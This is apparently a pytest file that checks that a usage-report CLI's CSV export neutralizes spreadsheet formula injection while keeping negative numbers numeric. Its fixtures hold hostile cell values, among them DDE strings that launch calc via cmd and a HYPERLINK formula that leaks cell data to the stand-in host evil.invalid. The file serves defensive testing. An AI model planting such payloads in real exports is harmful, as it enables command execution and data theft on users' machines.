"""CSV formula injection (OWASP): names that carry spreadsheet formulas go through a real
report (`aiusage report --format csv` over a warehouse) and come out as text, while numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re

import duckdb
import pytest
from click.testing import CliRunner

from aiusage.cli import main
from tests.support.contract_warehouse import small_warehouse

# attribution column -> a value a spreadsheet would run as a formula
HOSTILE = {
    "client": "-2+3+cmd|' /C calc'!A0",
    "team": '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")',
    "user_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "workflow": "+1+1",
    "feature": "=1+2",
    "task_type": "\t=1+1",
    "model": "\r=2+5",
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_warehouse(tmp_path, monkeypatch):
    path = small_warehouse(tmp_path / "hostile.duckdb")
    with duckdb.connect(str(path)) as con:
        columns = [r[0] for r in con.execute("describe fct_daily_usage").fetchall()]
        # one row of hostile names in the report week (2026-11-14..20), and an expensive
        # previous week, so that the cost change is a negative number
        for usage_date, cost, names in [
            ("2026-11-18", "0.50", HOSTILE),
            ("2026-11-08", "10.00", {}),
        ]:
            values = {c: None for c in columns}
            values.update(
                usage_date=usage_date, client="acme", team="search", user_id="u9",
                workflow="docs-qa", feature="answer-search", task_type="rag",
                provider="openai", model="gpt-4o", service_tier="standard", requests=1,
                successful_requests=1,
                error_requests=0, timeout_requests=0, rate_limited_requests=0,
                cancelled_requests=0, unpriced_requests=0, input_tokens=10,
                uncached_input_tokens=10, cache_read_tokens=0, cache_write_tokens=0,
                output_tokens=5, reasoning_tokens=0, total_tokens=15, total_cost_usd=cost,
                latency_requests=1, latency_ms_sum=100, ttft_requests=0, scored_requests=0,
                quality_judged_requests=0, passed_quality_requests=0,
            )  # fmt: skip
            values.update(names)
            con.execute(
                f"insert into fct_daily_usage values ({', '.join('?' for _ in columns)})",
                [values[c] for c in columns],
            )
    monkeypatch.setenv("AIUSAGE_DUCKDB_PATH", str(path))
    monkeypatch.setenv("AIUSAGE_PUBLISHED_DIR", str(tmp_path / "published"))
    return path


def _report_csv(*args) -> list[list[str]]:
    result = CliRunner().invoke(
        main, ["report", "--start-date", "2026-11-14", "--end-date", "2026-11-20",
               "--format", "csv", *args],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def _assert_no_formula_cells(rows):
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert NUMBER.match(cell), f"cell would run as a formula: {cell!r} in {row}"


def test_hostile_names_come_out_as_text(hostile_warehouse):
    rows = _report_csv()
    _assert_no_formula_cells(rows)
    values = {(section, field, value) for section, _, field, value in rows[1:]}
    for section, field in [
        ("by_client", "client"),
        ("by_team", "team"),
        ("by_user", "user_id"),
        ("by_workflow", "workflow"),
        ("by_workflow", "task_type"),
        ("by_feature", "feature"),
        ("by_model", "model"),
    ]:
        # the exact name, behind the quote that makes a spreadsheet show it as text
        assert (section, field, "'" + HOSTILE[field]) in values, (section, field)


def test_numbers_stay_numbers(hostile_warehouse):
    rows = _report_csv()
    summary = {field: value for section, _, field, value in rows[1:] if section == "summary"}
    # by hand: this week 1.50 + 2.00 + 0.50 = 4.00; the previous week 1.75 + 10.00 = 11.75
    change = summary["cost_change_pct"]
    assert NUMBER.match(change) and change.startswith("-")
    assert float(change) == pytest.approx((4.00 - 11.75) / 11.75 * 100)
    assert float(summary["total_cost_usd"]) == pytest.approx(4.00)


def test_filters_echoed_in_the_csv_are_neutralized(hostile_warehouse):
    rows = _report_csv("--user", HOSTILE["user_id"])
    _assert_no_formula_cells(rows)
    assert ["filters", "1", "user", "'" + HOSTILE["user_id"]] in rows
    summary = {field: value for section, _, field, value in rows[1:] if section == "summary"}
    assert float(summary["total_cost_usd"]) == pytest.approx(0.50)
